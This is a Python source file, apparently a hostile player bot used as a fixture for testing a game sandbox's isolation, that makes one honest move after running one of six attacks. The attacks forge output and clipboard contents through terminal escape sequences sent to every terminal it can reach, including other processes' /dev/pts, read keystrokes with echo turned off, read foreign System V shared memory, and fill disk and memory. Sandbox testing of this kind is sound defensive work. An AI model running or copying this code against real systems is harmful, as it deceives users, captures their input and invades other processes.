"""Hostile: goes after the person's terminal, the screen and memory nobody counts, then plays
as its honest twin; which attack is ATTACK's (one of ATTACKS). Each tells on stderr what it managed: "TERMINAL <attack> <result>".

``draw`` writes escape sequences (fake results over the real ones, a window title, the
clipboard through OSC 52) on every channel it was given: stdout, stderr, the original
streams, every open descriptor that is a terminal, /dev/tty. ``listen`` tries to read what
the person types (stdin, every terminal descriptor, /dev/tty) and turns echo off.
``by_path`` looks for a terminal by its path (/dev/pts, /proc/*/fd) and writes to it.
``shared_memory`` attaches the System V shared memory segment SEGMENT (the window's
picture, in the test) and the others it finds. ``hoard`` writes files wherever it can
outside /tmp, ``memory_file`` a file in memory (memfd), HOARD_MIB at most each.
"""
import ctypes
import glob
import os
import sys
import termios
import time

ATTACK = "@ATTACK@"
SEGMENT = @SEGMENT@
HOARD_MIB = 24
PAYLOAD = ("\r\x1b[2K\x1b[1A\x1b[2KA wins 88.88%\x1b]0;PWNED-TITLE\x07"
           "\x1b]52;c;aHVudGVyMg==\x07\x1b[31mFAKE\x1b[0m\n")
_done = set()


def _tell(attack, result):
    print(f"TERMINAL {attack} {result}", file=sys.stderr, flush=True)


def honest(view):
    return min(range(3), key=view.hand.__getitem__)


def _once(attack, action, view):
    if attack not in _done:
        _done.add(attack)
        try:
            _tell(attack, action())
        except BaseException as error:  # noqa: B902 - the attack tells every failure
            _tell(attack, f"{type(error).__name__}")
    return honest(view)


def _terminals():
    found = []
    for fd in range(64):
        try:
            if os.isatty(fd):
                found.append(fd)
        except OSError:
            pass
    return found


def _draw():
    written = []
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        stream.write(PAYLOAD)
        stream.flush()
    for fd in (1, 2, *_terminals()):
        try:
            os.write(fd, PAYLOAD.encode())
            if os.isatty(fd):
                written.append(f"fd{fd}")
        except OSError:
            pass
    try:
        with open("/dev/tty", "w") as tty:
            tty.write(PAYLOAD)
        written.append("/dev/tty")
    except OSError:
        pass
    return "wrote " + ",".join(written) if written else "nothing"


def _read_terminal(fd):
    os.set_blocking(fd, False)
    attrs = termios.tcgetattr(fd)
    attrs[3] &= ~termios.ECHO
    termios.tcsetattr(fd, termios.TCSANOW, attrs)
    deadline = time.monotonic() + 1.0
    while time.monotonic() < deadline:
        try:
            data = os.read(fd, 200)
        except BlockingIOError:
            time.sleep(0.02)
            continue
        if data:
            return data
    return b""


def _listen():
    got = []
    try:
        data = os.read(0, 200)
        if data:
            got.append(f"stdin:{data!r}")
    except OSError:
        pass
    fds = _terminals()
    try:
        fds.append(os.open("/dev/tty", os.O_RDWR))
    except OSError:
        pass
    for fd in fds:
        try:
            data = _read_terminal(fd)
            got.append(f"fd{fd}:{data!r}")
        except OSError:
            pass
    return "read " + " ".join(got) if got else "nothing"


def _by_path():
    written = []
    for path in glob.glob("/dev/pts/[0-9]*") + glob.glob("/proc/[0-9]*/fd/[0-2]"):
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            if os.isatty(fd):
                os.write(fd, PAYLOAD.encode())
                written.append(path)
        except OSError:
            pass
        finally:
            os.close(fd)
    return "wrote " + ",".join(written) if written else "nothing"


def _shared_memory():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    ids = {SEGMENT} if SEGMENT >= 0 else set()
    try:
        with open("/proc/sysvipc/shm") as table:
            ids |= {int(line.split()[1]) for line in table.readlines()[1:]}
    except OSError:
        pass
    seen = []
    for shmid in sorted(ids):
        address = libc.shmat(shmid, None, 0o10000)  # SHM_RDONLY
        if address not in (None, ctypes.c_void_p(-1).value):
            seen.append(ctypes.string_at(address, 32).split(b"\0")[0].decode("ascii", "replace"))
            libc.shmdt(ctypes.c_void_p(address))
    created = libc.shmget(0, 4096, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
    return f"saw {seen} created {created >= 0}"


def _hoard():
    held = {}
    chunk = b"x" * (1 << 20)
    for folder in ("/", "/dev", "/dev/shm", os.environ.get("HOME", "/"), "/var/tmp"):
        mib = 0
        try:
            with open(os.path.join(folder, f"hoard-{os.getpid()}"), "wb") as file:
                for _ in range(HOARD_MIB):
                    file.write(chunk)
                    file.flush()
                    mib += 1
        except OSError:
            pass
        finally:
            try:
                os.unlink(os.path.join(folder, f"hoard-{os.getpid()}"))
            except OSError:
                pass
        held[folder] = mib
    return " ".join(f"{where}={mib}" for where, mib in held.items())


def _memory_file():
    mib = 0
    try:
        fd = os.memfd_create("hoard")
        for _ in range(HOARD_MIB):
            os.write(fd, b"x" * (1 << 20))
            mib += 1
        os.close(fd)
    except OSError:
        pass
    return f"memfd={mib}"


ATTACKS = {"draw": _draw, "listen": _listen, "by_path": _by_path,
           "shared_memory": _shared_memory, "hoard": _hoard, "memory_file": _memory_file}


def choose(view):
    return _once(ATTACK, ATTACKS[ATTACK], view)
